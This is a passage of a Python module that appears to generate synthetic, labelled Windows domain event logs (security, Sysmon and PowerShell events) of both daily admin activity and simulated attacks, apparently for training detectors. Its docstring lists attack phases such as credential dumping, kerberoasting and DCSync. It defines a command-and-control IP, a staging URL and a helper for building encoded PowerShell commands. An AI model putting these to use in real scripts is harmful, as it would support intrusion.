"""Who lives in a made-up Windows domain and what happens there, as fields of events: what its sites write down each in a form of its own.

Daily work: logons, tickets, mistyped passwords, programs of people and of the system, scripts of administrators, connections, names,
files, registry, shares, accounts that are looked after, services and tasks. Attacks: a document that starts a script, a look around,
passwords out of memory, roasted tickets, passwords guessed, replication of the directory, movement by services and remote calls, tasks
and services that stay, and what is done before files are encrypted.
"""
from __future__ import annotations

import base64
import os
from typing import Any, List, Optional, Tuple

from .people import FIRST_NAMES, LAST_NAMES
from .site import Site, iso, utc
from .windows import NO_GUID

#: Names and texts of an event's fields.
Fields = List[Tuple[str, str]]

SERVERS = ["DC01", "FS02", "SQL01", "WEB01", "SCCM01"]
SERVICE_ACCOUNTS = ["svc_sql", "svc_backup", "svc_sccm", "svc_web"]
SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + r"WindowsPowerShell\v1.0\powershell.exe"
EXPLORER = r"C:\Windows\explorer.exe"
SVCHOST = SYSTEM32 + "svchost.exe"
CMD = SYSTEM32 + "cmd.exe"
DAILY_SCRIPTS = ["prompt", r"Get-ADUser -Filter {Enabled -eq $true} -Properties LastLogonDate | Export-Csv C:\Temp\users.csv",
                 "{ Set-StrictMode -Version 1; $_.ErrorCategory_Message }", "$global:?", "Get-Service -Name W3SVC | Restart-Service",
                 "Import-Module ActiveDirectory\nUnlock-ADAccount -Identity %s",
                 r"Get-ChildItem D:\Logs -Recurse | Where-Object {$_.LastWriteTime -lt (Get-Date).AddDays(-30)} | Remove-Item -Force",
                 "param([string]$Computer)\n"
                 "Get-WmiObject -Class Win32_OperatingSystem -ComputerName $Computer | Select CSName,LastBootUpTime",
                 r"Invoke-WebRequest -Uri https://packages.contoso.lab/agent/agent-4.2.msi -OutFile C:\Temp\agent.msi",
                 "Get-EventLog -LogName Security -Newest 50", "Enter-PSSession -ComputerName SQL01",
                 "Get-ADGroupMember 'Domain Admins'",
                 "Invoke-Command -ComputerName FS02,WEB01 -ScriptBlock { Get-HotFix | Sort InstalledOn | Select -Last 3 }",
                 r"Set-MpPreference -ExclusionPath 'D:\SQLData'",
                 "[Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms') | Out-Null",
                 "Get-LocalGroupMember -Group Administrators",
                 r"Compress-Archive -Path C:\inetpub\logs\* -DestinationPath D:\arch\iis.zip",
                 "New-ADUser -Name 'Temp Worker' -SamAccountName tworker -Enabled $true -AccountPassword (Read-Host -AsSecureString)",
                 "Test-NetConnection SQL01 -Port 1433", "function Get-DiskSpace { Get-PSDrive -PSProvider FileSystem }"]


def attack(write, at: float, *details, group, technique, **more: Any) -> None:
    write(at, *details, label=1, group=group, technique=technique, **more)


CONTROL = "91.215.85.16"
STAGE = "http://91.215.85.16/"


def encryption(text: str):
    return base64.b64encode(text.encode("utf-16le")).decode()


WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"


class WindowsDomain(Site):
    """A Windows domain; its sites say when it lives and in what form its events are written.

    netbios, fqdn  the domain's names
    start, days    when it lives: seconds since 1970, and for how many days
    amount         how much daily work there is, as a share of the usual
    events         what `happen` leaves: (time, provider, code, computer, fields, label, group, technique), in the order of time
    """

    netbios = "CONTOSO"
    fqdn = "contoso.lab"
    start = 0.0
    days = 3
    amount = 1.0

    def write(self, at: float, provider: str, code: int, computer: str, fields: Fields, **marks: Any) -> None:
        """Add one event in the site's own form; `fields` in their order, `marks` what `add` takes beside."""
        raise NotImplementedError

    def build(self) -> None:
        self.happen()
        for at, provider, code, computer, fields, label, group, technique in self.events:
            self.write(at, provider, code, computer, fields, label=label, group=group, technique=technique, host=self.full_name(computer))

    def happen(self) -> None:
        """Everything that happens in the domain, into `events`."""
        self.prepare()
        self.daily_logons()
        self.daily_programs()
        self.daily_scripts()
        self.daily_administration()
        self.victims()
        self.foothold()
        self.tickets_and_guesses()
        self.movement()
        self.persistence_and_damage()
        self.scripts_and_connections()
        self.accounts_and_tasks()
        self.events.sort(key=lambda event: event[0])

    def full_name(self, computer: str):
        return computer + "." + self.fqdn

    def logon_id(self) -> str:
        return f"0x{self.rng.randint(196608, 167772159):x}"

    def guid(self):
        return "{" + self.uuid() + "}"

    def event(self, at: float, provider, code, computer: str, fields, label: int = 0, group: Optional[str] = None,
              technique: Optional[str] = None) -> None:
        self.events.append((at, provider, code, computer, fields, label, group, technique))

    def subject(self, user: str, computer: str, logon_id=None):
        if user == "SYSTEM":
            return [("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", computer + "$"), ("SubjectDomainName", self.netbios),
                    ("SubjectLogonId", "0x3e7")]
        return [("SubjectUserSid", self.sids.get(user, self.authority + "-1999")), ("SubjectUserName", user),
                ("SubjectDomainName", self.netbios), ("SubjectLogonId", logon_id or self.logon_id())]

    def logon(self, at: float, user: str, computer: str, logon_type, address: str = "-", workstation: str = "-", package: str = "Kerberos",
              process: str = "Kerberos", **more: Any) -> None:
        self.event(at, "Sec", 4624, computer, [("SubjectUserSid", "S-1-0-0" if logon_type in (3,) else "S-1-5-18"),
                                               ("SubjectUserName", "-" if logon_type == 3 else computer + "$"),
                                               ("SubjectDomainName", "-" if logon_type == 3 else self.netbios),
                                               ("SubjectLogonId", "0x0" if logon_type == 3 else "0x3e7"),
                                               ("TargetUserSid", self.sids.get(user, self.authority + f"-1{self.digits(3)}")),
                                               ("TargetUserName", user), ("TargetDomainName", self.netbios),
                                               ("TargetLogonId", self.logon_id()), ("LogonType", str(logon_type)),
                                               ("LogonProcessName", {"Kerberos": "Kerberos", "NTLM": "NtLmSsp ",
            "Negotiate": "User32 "}[package]), ("AuthenticationPackageName", package), ("WorkstationName", workstation),
                                               ("LogonGuid", self.guid() if package == "Kerberos" else NO_GUID),
                                               ("TransmittedServices", "-"), ("LmPackageName", "NTLM V2" if package == "NTLM" else "-"),
                                               ("KeyLength", "128" if package == "NTLM" else "0"),
                                               ("ProcessId", "0x0" if logon_type == 3 else f"0x{self.rng.randint(400, 9000):x}"),
                                               ("ProcessName", "-" if logon_type == 3 else r"C:\Windows\System32\svchost.exe"),
                                               ("IpAddress", address),
                                               ("IpPort", str(self.rng.randint(49152, 65500)) if address not in ("-", "127.0.0.1")
                                                else "0"), ("ImpersonationLevel", "%%1833"), ("RestrictedAdminMode", "-"),
                                               ("TargetOutboundUserName", "-"), ("TargetOutboundDomainName", "-"),
                                               ("VirtualAccount", "%%1843"), ("TargetLinkedLogonId", "0x0"),
                                               ("ElevatedToken", "%%1842" if user in self.administrators or user.startswith("svc")
                                                or user == "Administrator" else "%%1843")], **more)

    def failed_logon(self, at: float, user: str, computer: str, logon_type, address: str, workstation: str, status: str = "0xc000006d",
                     sub_status: str = "0xc000006a", package: str = "NTLM", **more: Any) -> None:
        self.event(at, "Sec", 4625, computer, [("SubjectUserSid", "S-1-0-0"), ("SubjectUserName", "-"), ("SubjectDomainName", "-"),
                                               ("SubjectLogonId", "0x0"), ("TargetUserSid", "S-1-0-0"), ("TargetUserName", user),
                                               ("TargetDomainName", self.netbios), ("Status", status),
                                               ("FailureReason", "%%2313" if sub_status in ("0xc000006a", "0xc0000064") else "%%2307"),
                                               ("SubStatus", sub_status), ("LogonType", str(logon_type)),
                                               ("LogonProcessName", "NtLmSsp " if logon_type == 3 else "User32 "),
                                               ("AuthenticationPackageName", package if logon_type == 3 else "Negotiate"),
                                               ("WorkstationName", workstation), ("TransmittedServices", "-"), ("LmPackageName", "-"),
                                               ("KeyLength", "0"), ("ProcessId", "0x0"), ("ProcessName", "-"), ("IpAddress", address),
                                               ("IpPort", str(self.rng.randint(49152, 65500)))], **more)

    def service_ticket(self, at: float, user: str, service: str, address: str, encryption: str = "0x12", status: str = "0x0",
                       **more: Any) -> None:
        self.event(at, "Sec", 4769, "DC01", [("TargetUserName", user + "@" + self.fqdn.upper()),
                                             ("TargetDomainName", self.fqdn.upper()), ("ServiceName", service),
                                             ("ServiceSid", self.authority + f"-{self.rng.randint(1000, 1200)}"),
                                             ("TicketOptions", "0x40810000" if encryption != "0x17"
                                              else self.choice(["0x40810000", "0x40810010", "0x40800000"])),
                                             ("TicketEncryptionType", encryption), ("IpAddress", "::ffff:" + address),
                                             ("IpPort", str(self.rng.randint(49152, 65500))), ("Status", status),
                                             ("LogonGuid", self.guid()), ("TransmittedServices", "-")], **more)

    def first_ticket(self, at: float, user: str, address: str, encryption: str = "0x12", preauthentication: str = "2", status: str = "0x0",
                     **more: Any) -> None:
        self.event(at, "Sec", 4768 if status == "0x0" or status == "0x6" else 4771, "DC01",
                   [("TargetUserName", user), ("TargetDomainName", self.netbios),
                    ("TargetSid", self.sids.get(user, "S-1-0-0") if status == "0x0" else "S-1-0-0"), ("ServiceName", "krbtgt"),
                    ("ServiceSid", self.authority + "-502"), ("TicketOptions", "0x40810010"), ("Status", status),
                    ("TicketEncryptionType", encryption if status == "0x0" else "0xffffffff"), ("PreAuthType", preauthentication),
                    ("IpAddress", "::ffff:" + address), ("IpPort", str(self.rng.randint(49152, 65500))), ("CertIssuerName", ""),
                    ("CertSerialNumber", ""), ("CertThumbprint", "")] if status in ("0x0", "0x6")
                   else [("TargetUserName", user), ("TargetSid", self.sids.get(user, "S-1-0-0")),
                         ("ServiceName", "krbtgt/" + self.netbios), ("TicketOptions", "0x40810010"), ("Status", status),
                         ("PreAuthType", "2"), ("IpAddress", "::ffff:" + address), ("IpPort", str(self.rng.randint(49152, 65500))),
                         ("CertIssuerName", ""), ("CertSerialNumber", ""), ("CertThumbprint", "")], **more)

    def program(self, at: float, computer: str, user: str, image: str, command: str, parent: str, parent_command=None, folder=None,
                level: str = "Medium", both: bool = True, original_name=None, description=None, maker: str = "Microsoft Corporation",
                **more: Any) -> None:
        hashes_of = self.hashes.setdefault(image,
                                           f"SHA1={self.hex_upper(40)},MD5={self.hex_upper(32)},SHA256={self.hex_upper(64)},IMPHASH={self.hex_upper(32)}")
        account = r"NT AUTHORITY\SYSTEM" if user == "SYSTEM" else self.netbios + "\\" + user
        pid = self.rng.randint(600, 14000)
        sources = self.rng.random() if both else 0
        if sources < 0.62:
            self.event(at, "Sysmon", 1, computer,
                       [("RuleName", self.weighted({"-": 5, "technique_id=T1059.001,technique_name=PowerShell": 0.0})),
                        ("UtcTime", iso(at, 3, "").replace("T", " ")), ("ProcessGuid", self.guid()), ("ProcessId", str(pid)),
                        ("Image", image),
                        ("FileVersion",
                         self.choice(["10.0.17763.1 (WinBuild.160101.0800)",
                                      "10.0.19041.1202 (WinBuild.160101.0800)"]) if "Windows" in image
                         else self.choice(["-", "116.0.5845.97", "8.5.6"])),
                        ("Description", description or ("Windows Command Processor" if image.endswith("cmd.exe")
                else "Windows PowerShell" if image.endswith("powershell.exe") else "-" if "Windows" not in image
                else os.path.basename(image.replace("\\", "/"))[:-4])),
                        ("Product", "Microsoft® Windows® Operating System" if "Windows" in image else "-"),
                        ("Company", maker if "Windows" in image or "Micro" in image else "-"), ("OriginalFileName", original_name
                or image.split("\\")[-1]), ("CommandLine", command),
                        ("CurrentDirectory", folder or ("C:\\Windows\\system32\\" if level == "System" else f"C:\\Users\\{user}\\")),
                        ("User", account), ("LogonGuid", self.guid()), ("LogonId", "0x3e7" if user == "SYSTEM" else self.logon_id()),
                        ("TerminalSessionId", "0" if level == "System" else "1"), ("IntegrityLevel", level), ("Hashes", hashes_of),
                        ("ParentProcessGuid", self.guid()), ("ParentProcessId", str(self.rng.randint(600, 14000))),
                        ("ParentImage", parent), ("ParentCommandLine", parent_command
                or (parent if " " not in parent else f"\"{parent}\"")), ("ParentUser", account)], **more)
        if sources > 0.5:
            self.event(at, "Sec", 4688, computer, self.subject(user, computer) + [("NewProcessId", f"0x{pid:x}"),
                ("NewProcessName", image), ("TokenElevationType", {"High": "%%1937", "System": "%%1936"}.get(level, "%%1938")),
                ("ProcessId", f"0x{self.rng.randint(600, 14000):x}"), ("CommandLine", command), ("TargetUserSid", "S-1-0-0"),
                ("TargetUserName", "-"), ("TargetDomainName", "-"), ("TargetLogonId", "0x0"), ("ParentProcessName", parent),
                ("MandatoryLabel", "S-1-16-{}".format({"Medium": 8192, "High": 12288, "System": 16384}[level]))], **more)

    def script(self, at: float, computer: str, user: str, text: str, path: str = "", **more: Any) -> None:
        self.event(at, "PS", 4104, computer, [("MessageNumber", "1"), ("MessageTotal", "1"), ("ScriptBlockText", text),
                                              ("ScriptBlockId", self.uuid()), ("Path", path)], **more)

    def connection(self, at: float, computer: str, user: str, image: str, destination, port, host: str = "-", initiated: str = "true",
                   protocol: str = "tcp", **more: Any) -> None:
        self.event(at, "Sysmon", 3, computer, [("RuleName", "-"), ("UtcTime", iso(at, 3, "").replace("T", " ")),
                                               ("ProcessGuid", self.guid()), ("ProcessId", str(self.rng.randint(600, 14000))),
                                               ("Image", image), ("User", r"NT AUTHORITY\SYSTEM" if user == "SYSTEM"
            else self.netbios + "\\" + user), ("Protocol", protocol), ("Initiated", initiated), ("SourceIsIpv6", "false"),
                                               ("SourceIp", self.addresses[computer]), ("SourceHostname", self.full_name(computer)),
                                               ("SourcePort", str(self.rng.randint(49152, 65500))), ("SourcePortName", "-"),
                                               ("DestinationIsIpv6", "false"), ("DestinationIp", destination),
                                               ("DestinationHostname", host), ("DestinationPort", str(port)),
                                               ("DestinationPortName", "-")], **more)

    def access(self, at: float, computer: str, source, target, rights, call_trace, user: str = r"NT AUTHORITY\SYSTEM",
               **more: Any) -> None:
        self.event(at, "Sysmon", 10, computer, [("RuleName", "-"), ("UtcTime", iso(at, 3, "").replace("T", " ")),
                                                ("SourceProcessGUID", self.guid()),
                                                ("SourceProcessId", str(self.rng.randint(600, 9999))),
                                                ("SourceThreadId", str(self.rng.randint(600, 9999))), ("SourceImage", source),
                                                ("TargetProcessGUID", self.guid()),
                                                ("TargetProcessId", str(self.rng.randint(600, 900))), ("TargetImage", target),
                                                ("GrantedAccess", rights), ("CallTrace", call_trace), ("SourceUser", user),
                                                ("TargetUser", r"NT AUTHORITY\SYSTEM")], **more)

    def file_made(self, at: float, computer: str, user: str, image: str, file_name, **more: Any) -> None:
        self.event(at, "Sysmon", 11, computer, [("RuleName", "-"), ("UtcTime", iso(at, 3, "").replace("T", " ")),
                                                ("ProcessGuid", self.guid()), ("ProcessId", str(self.rng.randint(600, 9999))),
                                                ("Image", image), ("TargetFilename", file_name),
                                                ("CreationUtcTime", iso(at, 3, "").replace("T", " ")),
                                                ("User", r"NT AUTHORITY\SYSTEM" if user == "SYSTEM" else self.netbios + "\\" + user)],
                   **more)

    def registry_value(self, at: float, computer: str, user: str, image: str, key, value, **more: Any) -> None:
        self.event(at, "Sysmon", 13, computer, [("RuleName", "-"), ("EventType", "SetValue"),
                                                ("UtcTime", iso(at, 3, "").replace("T", " ")), ("ProcessGuid", self.guid()),
                                                ("ProcessId", str(self.rng.randint(600, 9999))), ("Image", image),
                                                ("TargetObject", key), ("Details", value),
                                                ("User", r"NT AUTHORITY\SYSTEM" if user == "SYSTEM" else self.netbios + "\\" + user)],
                   **more)

    def name_asked(self, at: float, computer: str, user: str, image: str, asked, answers, status: str = "0", **more: Any) -> None:
        self.event(at, "Sysmon", 22, computer, [("RuleName", "-"), ("UtcTime", iso(at, 3, "").replace("T", " ")),
                                                ("ProcessGuid", self.guid()), ("ProcessId", str(self.rng.randint(600, 9999))),
                                                ("QueryName", asked), ("QueryStatus", status), ("QueryResults", answers),
                                                ("Image", image), ("User", r"NT AUTHORITY\SYSTEM" if user == "SYSTEM"
            else self.netbios + "\\" + user)], **more)

    def service(self, at: float, computer: str, user: str, name_of, path_of, runs_as: str = "LocalSystem", start_type: str = "demand start",
                **more: Any) -> None:
        if self.rng.random() < 0.5:
            self.event(at, "System", 7045, computer, [("ServiceName", name_of), ("ImagePath", path_of),
                ("ServiceType", "user mode service"), ("StartType", start_type), ("AccountName", runs_as)], **more)
        else:
            self.event(at, "Sec", 4697, computer, self.subject(user, computer) + [("ServiceName", name_of),
                ("ServiceFileName", path_of), ("ServiceType", "0x10"), ("ServiceStartType", "3"), ("ServiceAccount", runs_as)], **more)

    def task_event(self, at: float, computer: str, user: str, name_of, command: str, arguments: str = "", code: int = 4698,
                   runs_as_: str = "S-1-5-18", **more: Any) -> None:
        self.event(at, "Sec", code, computer, self.subject(user, computer) + [("TaskName", name_of),
            ("TaskContent", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n"
             "<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n"
             f"  <RegistrationInfo>\r\n    <Author>{self.netbios}\\{user}</Author>\r\n"
             f"  </RegistrationInfo>\r\n  <Principals><Principal id=\"Author\"><UserId>{runs_as_}"
             "</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>\r\n"
             f"  <Actions Context=\"Author\">\r\n    <Exec>\r\n      <Command>{command}</Command>\r\n"
             f"      <Arguments>{arguments}</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>")] if code == 4698
                   else self.subject(user, computer) + [("TaskName", name_of)], **more)

    def share_access(self, at: float, computer: str, user: str, address: str, share, file_name, rights: str = "0x120089",
                     **more: Any) -> None:
        self.event(at, "Sec", 5145, computer, self.subject(user, computer) + [("ObjectType", "File"), ("IpAddress", address),
            ("IpPort", str(self.rng.randint(49152, 65500))), ("ShareName", "\\\\*\\" + share), ("ShareLocalPath", "" if share == "IPC$"
            else "\\??\\C:\\" + ("Windows" if share == "ADMIN$" else "")), ("RelativeTargetName", file_name), ("AccessMask", rights),
            ("AccessList", "%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t"), ("AccessReason", "-")], **more)

    def directory_access(self, at: float, user: str, right, rights: str = "0x100",
                         object_type: str = "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}", **more: Any) -> None:
        self.event(at, "Sec", 4662, "DC01", self.subject(user, "DC01") + [("ObjectServer", "DS"), ("ObjectType", object_type),
            ("ObjectName", "%{" + self.directory_object + "}"), ("OperationType", "Object Access"), ("HandleId", "0x0"),
            ("AccessList", "%%7688\r\n\t\t\t\t"), ("AccessMask", rights), ("Properties", "%%7688\r\n\t\t{" + right + "}\r\n\t"
            + object_type[1:] + "\r\n"), ("AdditionalInfo", "-"), ("AdditionalInfo2", "")], **more)

    def daily(self):
        return self.moment(self.start, self.days)

    def times(self, dice):
        return int(dice * self.amount)

    def daily_program(self, at: float) -> None:
        computer = self.choice(self.workstations)
        user = self.owners[computer]
        server = self.choice(SERVERS)
        administrator = self.choice(self.administrators)
        pick = self.rng.randrange(34)
        programs = [(computer, user, r"C:\Program Files\Google\Chrome\Application\chrome.exe",
                     "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads="
                     f"{self.rng.randint(1, 4)} --renderer-client-id={self.rng.randint(5, 400)}",
                     r"C:\Program Files\Google\Chrome\Application\chrome.exe", "Medium"),
                    (computer, user, r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
                     "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"\\\\FS02\\dept\\"
                     f"{self.choice(['Minutes', 'Offer 2023-44', 'CV', 'Contract_v3'])}.docx\" /o \"\"", EXPLORER, "Medium"),
                    (computer, "SYSTEM", SYSTEM32 + "backgroundTaskHost.exe",
                     f"\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppX{self.token(26).lower()}.mca", SVCHOST,
                     "System"), (computer, "SYSTEM", SYSTEM32 + "taskhostw.exe",
                                 f"taskhostw.exe {self.choice(['', 'KEYROAMING', 'Install $(Arg0)', '-RegisterDevice -ProtectionStateChanged -FreeNetworkOnly'])}",
                                 SVCHOST, "System"), (computer, "SYSTEM", SYSTEM32 + r"wbem\WmiPrvSE.exe",
            SYSTEM32.lower() + r"wbem\wmiprvse.exe -secured -Embedding", SVCHOST, "System"),
                    (computer, "SYSTEM", SYSTEM32 + "conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
                     POWERSHELL, "System"), (computer, user, SYSTEM32 + "rundll32.exe", SYSTEM32 + "rundll32.exe "
                                             + self.choice([
            r"C:\Windows\System32\shell32.dll,SHCreateLocalServerRunDll {c82192ee-6cb5-4bc0-9ef0-fb818773790a} -Embedding",
            r"printui.dll,PrintUIEntry /in /n \\FS02\HP-2F", "shell32.dll,Control_RunDLL desk.cpl"]), SVCHOST, "Medium"),
                    (computer, "SYSTEM", SYSTEM32 + "MusNotification.exe", SYSTEM32 + "MusNotification.exe", SVCHOST, "System"),
                    (computer, "SYSTEM", SYSTEM32 + "SearchProtocolHost.exe",
                     f"\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{self.rng.randint(1, 90)}"
                     f"_ Global\\UsGthrCtrlFltPipeMssGthrPipe{self.rng.randint(1, 90)}"
                     " 1 -2147483646 \"Software\\Microsoft\\Windows Search\"", SYSTEM32 + "SearchIndexer.exe", "System"),
                    (server, "SYSTEM", POWERSHELL, "powershell.exe -ExecutionPolicy Bypass -NoProfile -File C:\\Scripts\\"
                     f"{self.choice(['Check-Disk', 'Rotate-IISLogs', 'Sync-Users', 'Export-Inventory', 'Backup-GPO'])}.ps1", SVCHOST,
                     "System"),
                    (computer, "SYSTEM", POWERSHELL,
                     "\"powershell.exe\" -NoLogo -Noninteractive -NoProfile -ExecutionPolicy Bypass & 'C:\\Windows\\CCM\\SystemTemp\\"
                     f"{self.uuid()}.ps1'", r"C:\Windows\CCM\CcmExec.exe", "System"), (server, administrator, SYSTEM32 + "mmc.exe",
            "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\"
            f"{self.choice(['dsa.msc', 'gpmc.msc', 'eventvwr.msc', 'dnsmgmt.msc', 'services.msc', 'taskschd.msc'])}\"", EXPLORER,
                         "High"), (server, administrator, SYSTEM32 + "net.exe",
                                   self.choice([f"net user {user} /domain", "net localgroup administrators", "net stop spooler",
                                                "net start w3svc", r"net use Z: \\FS02\it$", "net accounts /domain",
                                                'net group "Domain Admins" /domain']), CMD, "High"),
                    (server, administrator, SYSTEM32 + "ipconfig.exe", self.choice(["ipconfig /all", "ipconfig /flushdns"]), CMD,
                     "High"), (computer, user, SYSTEM32 + "PING.EXE", f"ping {self.choice(['8.8.8.8', 'FS02', 'google.com -t'])}", CMD,
                               "Medium"), (server, administrator, SYSTEM32 + "whoami.exe", self.choice(["whoami", "whoami /groups"]),
                                           POWERSHELL, "High"), (server, administrator, SYSTEM32 + "nltest.exe",
            self.choice(["nltest /dsgetdc:" + self.fqdn, "nltest /sc_verify:" + self.fqdn]), CMD, "High"),
                    (server, administrator, SYSTEM32 + "repadmin.exe", "repadmin /showrepl", CMD, "High"),
                    (server, administrator, SYSTEM32 + "schtasks.exe",
                     self.choice(["schtasks /query /fo LIST /v",
                                  r'schtasks /create /tn "Rotate IIS logs" /tr "powershell -File C:\Scripts\Rotate-IISLogs.ps1" /sc daily /st 03:00 /ru SYSTEM']),
                     CMD, "High"), (server, administrator, SYSTEM32 + "wevtutil.exe",
                                    self.choice(["wevtutil el", "wevtutil qe System /c:20 /rd:true /f:text",
            "wevtutil sl Security /ms:1073741824"]), CMD, "High"), (server, administrator, SYSTEM32 + "vssadmin.exe",
            self.choice(["vssadmin list shadows", "vssadmin list writers"]), CMD, "High"), (server, administrator, SYSTEM32 + "sc.exe",
            self.choice(["sc query state= all", "sc.exe query wuauserv", "sc config spooler start= disabled"]), CMD, "High"),
                    (server, administrator, SYSTEM32 + "reg.exe",
                     self.choice([r'reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v ReleaseId',
                                  r"reg export HKLM\SOFTWARE\Acme C:\Temp\acme.reg",
                                  r'reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate\AU" /v NoAutoUpdate /t REG_DWORD /d 1 /f']),
                     CMD, "High"), (computer, "SYSTEM", SYSTEM32 + "svchost.exe",
                                    SYSTEM32 + f"svchost.exe -k {self.choice(['netsvcs -p -s wlidsvc', 'wsappx -p -s ClipSVC', 'LocalService -p -s LicenseManager', 'netsvcs -p -s BITS', 'UnistackSvcGroup'])}",
                                    SYSTEM32 + "services.exe", "System"),
                    (computer, user, f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\Update.exe",
                     f"\"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\Update.exe\" --processStart \"Teams.exe\" --process-start-args \"--system-initiated\"",
                     EXPLORER, "Medium"), (computer, "SYSTEM", r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe",
                                           r'"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /ua /installsource scheduler',
                                           SVCHOST, "System"),
                    (computer, "SYSTEM", r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2307.6-0\MpCmdRun.exe",
                     r'"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2307.6-0\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges',
                     SVCHOST, "System"), (server, "SYSTEM", r"C:\Program Files\SplunkUniversalForwarder\bin\splunk-powershell.exe",
                                          r'"C:\Program Files\SplunkUniversalForwarder\bin\splunk-powershell.exe" --ps2',
                                          r"C:\Program Files\SplunkUniversalForwarder\bin\splunkd.exe", "System"),
                    (server, administrator, SYSTEM32 + "certutil.exe",
                     self.choice(["certutil -store my", r"certutil -hashfile C:\Install\sql.iso SHA256", "certutil -dump"]), CMD,
                     "High"), (server, administrator, SYSTEM32 + "robocopy.exe",
                               r"robocopy D:\dept \\FS02\backup\dept /MIR /R:1 /W:1 /LOG:C:\Logs\robo.log", CMD, "High"),
                    (computer, "SYSTEM", SYSTEM32 + "msiexec.exe",
                     SYSTEM32 + f"msiexec.exe /i C:\\Windows\\ccmcache\\{self.hex(2)}\\7z2301-x64.msi /qn /norestart",
                     r"C:\Windows\CCM\CcmExec.exe", "System"),
                    (server, "svc_sql", CMD, f"cmd.exe /c \"C:\\SQLJobs\\nightly.cmd {utc(at).strftime('%Y%m%d')}\"",
                     r"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\SQLAGENT.EXE", "High"),
                    (computer, user, r"C:\Program Files\Notepad++\notepad++.exe",
                     f"\"C:\\Program Files\\Notepad++\\notepad++.exe\" \"C:\\Users\\{user}\\Documents\\todo.txt\"", EXPLORER, "Medium"),
                    (server, administrator, POWERSHELL,
                     self.choice(["powershell.exe Get-Service | ? Status -eq Stopped",
                                  r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" ',
                                  "powershell -Command Restart-Computer -ComputerName WEB01 -Force", "powershell -enc "
                                  + base64.b64encode("Get-WmiObject Win32_LogicalDisk".encode("utf-16le")).decode()]),
                     self.choice([EXPLORER, CMD]), "High")]
        computer, user, image, command, parent, level = programs[pick]
        self.program(at, computer, user, image, command, parent, level=level)

    def day_hour(self, day, hour):
        return self.start + day * 86400 + hour * 3600

    def commands(self, day, hour, lines, group: str, host: Optional[str] = None, user: Optional[str] = None, parent=CMD,
                 level: str = "Medium", technique: Optional[str] = None, step: int = 90) -> None:
        user = user or self.victim_user
        host = host or self.victim
        at = self.day_hour(day, hour)
        for command_line in lines:
            pick = command_line if isinstance(command_line, tuple) else (command_line, technique)
            first_word = pick[0].split()[0].strip('"')
            image = first_word if ":\\" in first_word and (" " not in first_word) else POWERSHELL if "powershell" in first_word.lower() else SYSTEM32 + (first_word if first_word.lower().endswith(".exe")
                else first_word + ".exe")
            at += self.rng.uniform(2, step)
            self.program(at, host, user, image, pick[0], parent, level=level, label=1, group=group, technique=pick[1] if len(pick) > 1
                         else technique)

    def prepare(self) -> None:
        """Who and what is there."""
        self.events = []
        self.workstations = [f"{self.choice(['WKS', 'LT'])}-{self.digits(4)}" for _ in range(9)]
        self.users = [self.choice(FIRST_NAMES)[0] + self.choice(LAST_NAMES) for _ in range(22)]
        self.administrators = ["adm-" + self.users[0], "adm-" + self.users[1]]
        self.addresses = {computer: f"10.0.{10 if computer in SERVERS else 20}.{self.rng.randint(5, 250)}"
                          for computer in self.workstations + SERVERS}
        self.owners = {computer: self.choice(self.users) for computer in self.workstations}
        self.authority = f"S-1-5-21-{self.digits(10)}-{self.digits(9)}-{self.digits(10)}"
        self.sids = {user: self.authority + f"-{1103 + number}" for number,
                     user in enumerate(self.users + self.administrators + SERVICE_ACCOUNTS)}
        self.sids["Administrator"] = self.authority + "-500"
        self.hashes = {}
        self.directory_object = self.uuid()

    def daily_logons(self) -> None:
        """Logons, tickets, passwords mistyped."""
        for _ in range(self.times(260)):
            at = self.daily()
            computer = self.choice(self.workstations)
            user = self.owners[computer]
            dice = self.rng.random()
            if dice < 0.35:
                self.logon(at, user, self.choice(["FS02", "DC01", "SQL01"]), 3, self.addresses[computer], "-",
                           *self.weighted([(("Kerberos", "Kerberos"), 6), (("NTLM", "NTLM"), 1)]))
            elif dice < 0.5:
                self.logon(at, computer + "$", "DC01", 3, self.addresses[computer])
            elif dice < 0.6:
                self.logon(at, user, computer, self.choice([2, 11, 7]), "127.0.0.1", computer, "Negotiate")
            elif dice < 0.72:
                self.logon(at, "SYSTEM", self.choice(self.workstations + SERVERS), 5, "-", "-", "Negotiate")
            elif dice < 0.8:
                administrator = self.choice(self.administrators)
                self.logon(at, administrator, self.choice(SERVERS), self.choice([10, 3, 3]), self.addresses[self.workstations[0]],
                           self.choice([self.workstations[0], "-"]), "Negotiate" if self.rng.random() < 0.3 else "Kerberos")
            elif dice < 0.88:
                self.logon(at, self.choice(SERVICE_ACCOUNTS), self.choice(SERVERS), self.choice([4, 3, 5]),
